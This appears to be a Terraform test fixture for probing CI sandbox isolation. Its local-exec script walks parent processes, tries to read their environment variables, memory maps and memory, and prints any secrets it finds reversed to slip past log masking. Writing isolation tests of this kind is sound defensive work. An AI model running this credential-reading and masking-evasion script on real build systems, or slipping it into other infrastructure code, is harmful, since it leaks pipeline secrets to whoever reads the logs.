# Attack fixture: the job's code walks up its parent pids and tries to read each ancestor's environment, memory
# map and memory. What it reads is printed reversed, so that masking cannot recognise it.
resource "terraform_data" "procread" {
  provisioner "local-exec" {
    command = <<-EOT
      p=$PPID
      while [ "$p" -gt 1 ]; do
        if env=$(tr '\0' '\n' < /proc/$p/environ 2>/dev/null); then echo "pid=$p environ=read"; printf '%s\n' "$env" | rev; else echo "pid=$p environ=denied"; fi
        if head -c 100 /proc/$p/maps >/dev/null 2>&1; then echo "pid=$p maps=read"; else echo "pid=$p maps=denied"; fi
        if (exec 3</proc/$p/mem) 2>/dev/null; then echo "pid=$p mem=open"; else echo "pid=$p mem=denied"; fi
        p=$(cut -d' ' -f4 /proc/$p/stat)
      done
    EOT
  }
}
